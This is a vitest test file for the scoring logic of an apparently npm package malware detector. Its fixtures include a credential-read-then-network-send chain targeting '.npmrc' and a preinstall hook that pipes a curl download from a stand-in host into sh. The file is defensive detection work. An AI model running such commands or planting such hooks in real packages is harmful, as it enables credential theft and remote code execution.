import { describe, expect, it } from 'vitest';
import { runRules } from '../rules/index.js';
import { at, call, flow, packageFacts } from '../rules/rule-test-kit.js';
import { assess, MALICIOUS_SCORE, SUSPICIOUS_SCORE } from './score.js';
import type { BehaviorFinding, CodeFact } from './types.js';

const threat = (
  rule: string,
  severity: BehaviorFinding['severity'],
  confidence: BehaviorFinding['confidence'],
): BehaviorFinding => ({
  rule,
  kind: 'threat',
  severity,
  confidence,
  message: rule,
});

describe('assess', () => {
  it('keeps a powerful but threat-free package clean, listing its capabilities', () => {
    const code: CodeFact[] = [
      call('child_process.spawn', 'process', at('cli.js', 3)),
      call('https.request', 'network', at('cli.js', 9)),
      { kind: 'env-read', key: 'HOME', at: at('cli.js', 2) },
      call('fs.readFileSync', 'filesystem-read', at('cli.js', 4)),
      call('eval', 'eval', at('cli.js', 6), ['return this']),
    ];
    const facts = packageFacts({
      manifest: { installScripts: { install: 'node-gyp rebuild' }, bindingGyp: { commands: [] } },
      code,
    });
    const result = assess(facts, runRules(facts));
    expect(result).toEqual({
      verdict: 'clean',
      score: 0,
      capabilities: ['env', 'eval', 'filesystem', 'install-scripts', 'native', 'network', 'shell'],
    });
  });

  it('calls a credential read → network send chain malicious', () => {
    const read = call('fs.readFileSync', 'filesystem-read', at('index.js', 2), ['/home/u/.npmrc']);
    const send = call('https.request', 'network', at('index.js', 5), ['https://collector.invalid/']);
    const facts = packageFacts({ code: [read, send, flow(read, send)] });
    const result = assess(facts, runRules(facts));
    expect(result.verdict).toBe('malicious');
    expect(result.score).toBeGreaterThanOrEqual(9);
    expect(result.capabilities).toEqual(['filesystem', 'network']);
  });

  it('calls an install hook that downloads and executes malicious', () => {
    const facts = packageFacts({
      manifest: { installScripts: { preinstall: 'curl -s https://p.invalid/x | sh' } },
    });
    expect(assess(facts, runRules(facts))).toMatchObject({ verdict: 'malicious', score: 10 });
  });

  it('makes one medium-confidence high threat suspicious, not malicious', () => {
    const result = assess(packageFacts(), [threat('network-raw-ip', 'high', 'medium')]);
    expect(result.verdict).toBe('suspicious');
    expect(result.score).toBeGreaterThanOrEqual(SUSPICIOUS_SCORE);
  });

  it('keeps one or two low-confidence threats clean; three corroborating rules are suspicious', () => {
    const one = assess(packageFacts(), [threat('a-one', 'high', 'low')]);
    expect(one).toMatchObject({ verdict: 'clean', score: 3.2 });
    const two = assess(packageFacts(), [threat('a-one', 'high', 'low'), threat('b-two', 'high', 'low')]);
    expect(two).toMatchObject({ verdict: 'clean', score: 3.9 });
    const critical = assess(packageFacts(), [threat('a-one', 'critical', 'low')]);
    expect(critical).toMatchObject({ verdict: 'clean', score: 3.9 });
    const three = assess(packageFacts(), [
      threat('a-one', 'high', 'low'),
      threat('b-two', 'high', 'low'),
      threat('c-three', 'high', 'low'),
    ]);
    expect(three.verdict).toBe('suspicious');
  });

  it('lets a low-confidence rule add to a medium-confidence one', () => {
    const result = assess(packageFacts(), [
      threat('a-one', 'high', 'medium'),
      threat('b-two', 'high', 'low'),
    ]);
    expect(result.score).toBeGreaterThan(5.6);
  });

  it('counts one rule once however many times it fires', () => {
    const many = Array.from({ length: 20 }, () => threat('a-one', 'high', 'low'));
    expect(assess(packageFacts(), many).score).toBe(3.2);
  });

  it('never calls many weak signals malicious', () => {
    const findings = ['a-1', 'b-2', 'c-3', 'd-4', 'e-5', 'f-6'].map((rule) => threat(rule, 'high', 'medium'));
    const result = assess(packageFacts(), findings);
    expect(result.verdict).toBe('suspicious');
    expect(result.score).toBeLessThan(MALICIOUS_SCORE);
  });

  it('ignores capability findings in the score', () => {
    const capability: BehaviorFinding = {
      ...threat('install-script-present', 'critical', 'high'),
      kind: 'capability',
    };
    expect(assess(packageFacts(), [capability])).toEqual({
      verdict: 'clean',
      score: 0,
      capabilities: ['install-scripts'],
    });
  });

  it('names metadata capabilities after what they say about the release', () => {
    const capability = (rule: string): BehaviorFinding => ({
      ...threat(rule, 'low', 'high'),
      kind: 'capability',
    });
    const rules = ['metadata-security-holding', 'metadata-deprecated', 'metadata-missing-repository'];
    expect(assess(packageFacts(), rules.map(capability))).toEqual({
      verdict: 'clean',
      score: 0,
      capabilities: ['deprecated', 'no-repository', 'security-holding'],
    });
    // Through the real rules: a deprecated holding placeholder with no repository.
    const facts = packageFacts({
      manifest: { version: '0.0.1-security' },
      metadata: [
        { kind: 'security-holding', version: '0.0.1-security' },
        { kind: 'deprecated', version: '0.0.1-security', message: 'security holding package' },
        { kind: 'missing-repository' },
      ],
    });
    const { capabilities, score } = assess(facts, runRules(facts));
    expect(capabilities).toEqual(['deprecated', 'no-repository', 'security-holding']);
    expect(score).toBe(0);
    // A metadata threat is evidence, not a capability.
    expect(
      assess(packageFacts(), [threat('metadata-typosquat-name', 'medium', 'medium')]).capabilities,
    ).toEqual([]);
  });
});
